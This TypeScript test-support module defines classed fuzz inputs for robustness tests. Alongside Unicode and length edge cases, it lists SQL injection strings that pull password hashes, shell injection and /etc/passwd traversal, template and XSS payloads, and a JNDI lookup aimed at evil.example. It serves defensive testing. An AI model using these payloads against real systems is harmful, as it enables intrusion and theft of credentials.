import { isThorough } from '../../support/thorough.ts'

/** Strings with a special meaning to a database, shell, template engine, log or browser, by class. */
const classes: Record<string, string[]> = {
  SQL: [
    "' or '1'='1",
    "'; drop table post; --",
    '" or ""="',
    "1' union select password_hash from user --",
    '\'||(select password_hash from "user" limit 1)||\'',
    '%_\\%',
    "\\'; select pg_sleep(5); --",
    '$1',
    '$$; select 1; $$',
    ':name @name ?',
    '/* x */ 1=1',
  ],
  'Objects of other databases': ['{"$ne": null}', '{"$where": "sleep(5000)"}', '[$regex]=.*'],
  Templates: [
    '{{7*7}}',
    `${'$'}{7*7}`,
    '<%= 7*7 %>',
    '#{7*7}',
    '{{constructor.constructor("return process")()}}',
  ],
  'Shells and files': [
    '; cat /etc/passwd',
    '$(id)',
    '`id`',
    '| sleep 5 #',
    '../../../../etc/passwd',
    'file:///etc/passwd',
    'C:\\boot.ini',
  ],
  'Headers and logs': [
    'a\r\nX-Injected: 1',
    'a\nSet-Cookie: session=1',
    '%0d%0aX-Injected: 1',
    '\u001b[31mred\u001b[0m',
    `${'$'}{jndi:ldap://evil.example/a}`,
  ],
  'Directories, formats and numbers': [
    '*)(uid=*))(|(uid=*',
    '%s%s%n%x%d',
    '1e309',
    '-1',
    'NaN',
    '0x7fffffff',
    '99999999999999999999',
  ],
  'JavaScript property names': ['__proto__', 'constructor', 'toString', 'null', 'undefined'],
  Unicode: [
    'İstanbul ıi',
    'ﬀ ﬁ ß ẞ ǅ',
    'Ω≈ç√∫˜µ≤≥÷',
    'مرحبا بالعالم',
    '田中さんにあげて下さい',
    '👩‍👩‍👧‍👦🏳️‍🌈🇩🇪',
    'Z̴̧̢̛͔̳̮̤̣̈́̀͗̉̈́͜͝a̸l̷g̶o̵',
  ],
  Direction: ['\u202egnp.exe', '\u2066abc\u2069'],
  NUL: ['a\u0000b', '\u0000'],
  'Lone surrogates': ['\ud800', 'a\udc00b'],
  'Control characters': [
    '\ufeff\u200b\u2028\u2029',
    '\uffff\ufffe',
    '\u0001\u0008\u000b\u001f\u007f\u0085',
  ],
  Browsers: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    'javascript:alert(1)',
    ']]>',
    '&lt;&#60;&amp;nbsp;',
    '</title></textarea></script>',
  ],
  Blank: [' '],
  Lengths: ['x'.repeat(20_000), '🍲'.repeat(3000), '('.repeat(5000)],
}

/** At night all of them, otherwise the first of each class. */
export const fuzzStrings: string[] = Object.values(classes).flatMap((texts) =>
  isThorough ? texts : texts.slice(0, 1),
)

/** Values of other types, where a string is expected. */
export const fuzzValues: unknown[] = [
  null,
  true,
  0,
  -1,
  1e308,
  [],
  {},
  ['a', 'b'],
  { $ne: null },
  { $gt: '' },
  { toString: 'x', length: 5 },
  { toJSON: 'x', trim: 'x' },
  [[[[[[[[['deep']]]]]]]]],
]
